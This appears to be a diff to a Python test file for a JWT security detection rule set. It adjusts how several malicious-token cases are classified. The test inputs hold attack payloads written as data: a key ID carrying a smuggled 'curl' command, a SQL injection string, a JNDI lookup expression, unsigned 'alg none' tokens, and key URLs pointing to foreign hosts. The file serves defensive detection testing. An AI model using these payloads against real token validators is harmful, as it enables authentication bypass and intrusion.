@@ -4,8 +4,8 @@ import hashlib
 import json
 
 from minting import EcKey, b64u, compact, jws, v2_claims
-from rulecases.common import (ADA, EC, GOOGLE_KID, NOW, OTHER, alb, background, cognito, google, hit, miss, noise,
-    oidc, s2s, uti, v2)
+from rulecases.common import (ADA, EC, GOOGLE_KID, NOW, OTHER, alb, background, cognito, google, hit, minor, miss,
+                              noise, oidc, s2s, uti, v2)
 
 
 def a01(m):
@@ -17,7 +17,8 @@ def a01(m):
 
     def request_object(now):
         return jws(None, {"alg": "none", "typ": "oauth-authz-req+jwt"},
-                   {"iss": "client-1", "aud": "https://idp.contoso.example", "response_type": "code", "client_id": "client-1"})
+                   {"iss": "client-1", "aud": "https://idp.contoso.example", "response_type": "code",
+                       "client_id": "client-1"})
 
     def jwe(now):
         header = b64u(compact({"alg": "dir", "enc": "A256GCM", "typ": "JWT"}))
@@ -52,7 +53,7 @@ def a05(m):
         hit("jku with the real host as userinfo", v2(m.organisations,
             header={"jku": "https://login.microsoftonline.com@keys.invalid/k"})),
         hit("x5u at another host", v2(m.organisations, header={"x5u": "https://keys.invalid/cert.pem"})),
-        hit("jku of an issuer nobody described", oidc("https://idp.contoso.example",
+        minor("jku of an issuer nobody described", oidc("https://idp.contoso.example",
             header={"jku": "https://idp.contoso.example/jwks"})),
         miss("jku at the issuer's own origin", v2(m.organisations, header={"jku": good})),
         miss("jku as a claim, not in the header", v2(m.organisations, jku="https://keys.invalid/set.json")),
@@ -103,7 +104,7 @@ def a08(m):
         hit("a command after a semicolon", kid("key; curl keys.invalid")),
         hit("SQL", kid("x' UNION SELECT '1';--")),
         hit("an expression", kid("${jndi:ldap://keys.invalid/a}")),
-        hit("a URL", kid("https://keys.invalid/key.pem")),
+        miss("a URL, as HTTP signatures have", kid("https://keys.invalid/key.pem")),
         hit("a control character", kid("key\n1")),
         hit("empty", kid("")),
         hit("257 bytes", kid("k" * 257)),
